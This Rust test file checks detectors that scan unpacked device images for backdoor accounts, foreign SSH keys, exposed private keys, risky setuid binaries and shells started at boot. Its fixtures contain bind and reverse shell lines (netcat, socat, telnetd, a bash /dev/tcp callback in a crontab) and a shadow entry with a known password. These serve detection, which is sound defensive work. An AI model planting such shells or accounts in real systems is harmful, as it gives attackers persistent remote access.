use unpack::{Tree, UnpackLimits, unpack_bytes};

use super::*;

/// A tree with these files: path, mode, content. Through a tar archive, so that modes and owners are real.
fn tree(files: &[(&str, u32, &str)]) -> Tree {
    let mut archive = tar::Builder::new(Vec::new());
    for (path, mode, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(*mode);
        header.set_uid(0);
        archive.append_data(&mut header, path, content.as_bytes()).unwrap();
    }
    unpack_bytes("image.tar", archive.into_inner().unwrap(), &UnpackLimits::default())
}

/// Rule, line and weight of everything found.
fn found(files: &[(&str, u32, &str)]) -> Vec<(&'static str, u64, Weight)> {
    let tree = tree(files);
    DETECTORS.iter().flat_map(|d| (d.detect)(&tree)).map(|f| (f.rule, f.line, f.weight)).collect()
}

#[test]
fn detectors_are_sorted_by_rule() {
    assert!(DETECTORS.is_sorted_by_key(|d| d.rule));
}

#[test]
fn accounts_are_judged_by_the_password_that_fits() {
    let passwd =
        "root:x:0:0::/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\nweb:x:33:33::/:/bin/false\nold:x:7:7::/:/bin/sh\n";
    // The hash is `openssl passwd -1 -salt saltsalt password`.
    let shadow =
        "root::1::::::\nsvc:$1$saltsalt$qjXMvbEw8oaL.CzflDtaK/:1::::::\nweb::1::::::\nold:*:1::::::\n";
    let files = [("etc/passwd", 0o644, passwd), ("etc/shadow", 0o600, shadow)];
    let expected = [
        ("default-account", 1, Weight::AdministratorWithoutPassword),
        ("default-account", 2, Weight::AdministratorWithKnownPassword),
    ];
    assert_eq!(found(&files), expected);
}

#[test]
fn a_locked_second_administrator_is_reported_and_one_that_cannot_log_in_is_not() {
    let passwd = "root:x:0:0::/:/bin/sh\ntoor:!:0:0::/:/bin/sh\nhalt:!:0:0::/:/sbin/halt\n";
    assert_eq!(
        found(&[("etc/passwd", 0o644, passwd)]),
        [("default-account", 2, Weight::SecondAdministrator)]
    );
}

#[test]
fn keys_that_open_a_login_are_found_behind_options() {
    let keys = "# comment\nfrom=\"10.*\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHhl support@maker\n";
    let files = [("root/.ssh/authorized_keys", 0o600, keys)];
    assert_eq!(found(&files), [("authorized-key", 2, Weight::ForeignKey)]);
}

#[test]
fn private_keys_count_if_they_are_whole_and_open() {
    let body = "MHcCAQEEIKz1Vb0cQ9f4F4oX0cZ8q8m1b7a0h3T3xZ8b6l3dOeVvoAoGCCqGSM49";
    let open = format!("-----BEGIN EC PRIVATE KEY-----\n{body}\n-----END EC PRIVATE KEY-----\n");
    let closed = format!("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n{body}\n");
    let marker = "grep -q '-----BEGIN PRIVATE KEY-----' $1\n";
    let files = [("a.pem", 0o600, open.as_str()), ("b.pem", 0o600, closed.as_str()), ("c.sh", 0o755, marker)];
    assert_eq!(found(&files), [("private-key", 1, Weight::SharedPrivateKey)]);
}

#[test]
fn set_user_id_counts_where_the_program_runs_anything_or_lies_in_a_writable_place() {
    let files = [
        ("bin/su", 0o4755, "x"),
        ("bin/busybox", 0o4755, "x"),
        ("bin/bash", 0o4755, "x"),
        ("tmp/helper", 0o4755, "x"),
        ("usr/bin/find", 0o755, "x"),
    ];
    let expected = [
        ("setuid-surprise", 0, Weight::SetuidInterpreter),
        ("setuid-surprise", 0, Weight::SetuidInWritablePlace),
    ];
    assert_eq!(found(&files), expected);
}

#[test]
fn shells_opened_at_start_are_found_in_every_table() {
    for (path, text, expected) in [
        (
            "etc/init.d/rcS",
            "#!/bin/sh\n# telnetd -l /bin/sh\n/usr/sbin/telnetd -l /bin/sh &\n",
            Some((3, Weight::ShellOffered)),
        ),
        (
            "etc/init.d/S50",
            "start-stop-daemon -S --exec /usr/sbin/telnetd -- -F\n",
            Some((1, Weight::TelnetStarted)),
        ),
        ("etc/rc.local", "busybox nc -l -p 99 -e /bin/sh\n", Some((1, Weight::ShellOffered))),
        ("etc/rc.d/S1", "socat TCP-LISTEN:99,fork EXEC:/bin/sh,pty\n", Some((1, Weight::ShellOffered))),
        (
            "etc/inittab",
            "::sysinit:/etc/init.d/rcS\nttyS0::askfirst:-/bin/sh\n",
            Some((2, Weight::ConsoleShell)),
        ),
        (
            "etc/inetd.conf",
            "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l /bin/sh\n",
            Some((1, Weight::ShellOffered)),
        ),
        (
            "etc/systemd/system/x.service",
            "[Service]\nExecStart=-/usr/bin/ncat -l 9 -e /bin/bash\n",
            Some((2, Weight::ShellOffered)),
        ),
        (
            "etc/crontab",
            "*/5 * * * * root bash -c 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'\n",
            Some((1, Weight::ShellOffered)),
        ),
        ("var/spool/cron/root", "@reboot telnetd -l/bin/sh\n", Some((1, Weight::ShellOffered))),
        ("etc/init.d/sshd", "#!/bin/sh\n/usr/sbin/sshd\nsh /etc/rc.network\n", None),
    ] {
        let expected: Vec<_> =
            expected.map(|(line, weight)| ("startup-shell", line, weight)).into_iter().collect();
        assert_eq!(found(&[(path, 0o755, text)]), expected, "{path}");
    }
}

#[test]
fn the_condition_around_a_shell_is_its_trigger() {
    let text = "if [ -e /media/usb/.debug ]; then\n  telnetd -l /bin/sh\nfi\n";
    let tree = tree(&[("etc/init.d/rcS", 0o755, text)]);
    let found = (startup_shell::DETECTOR.detect)(&tree);
    let triggers: Vec<_> = found.iter().filter_map(|f| f.trigger.as_ref().map(|t| t.0.as_str())).collect();
    assert_eq!(triggers, ["if [ -e /media/usb/.debug ]; then"]);
}

#[test]
fn a_finding_keeps_its_id_when_lines_move() {
    let id = |text: &str| {
        let tree = tree(&[("etc/init.d/rcS", 0o755, text)]);
        (startup_shell::DETECTOR.detect)(&tree).remove(0).into_finding().id
    };
    assert_eq!(id("telnetd -l /bin/sh\n"), id("\n\ntelnetd -l /bin/sh\n"));
    assert_ne!(id("telnetd -l /bin/sh\n"), id("nc -l -e /bin/sh\n"));
}
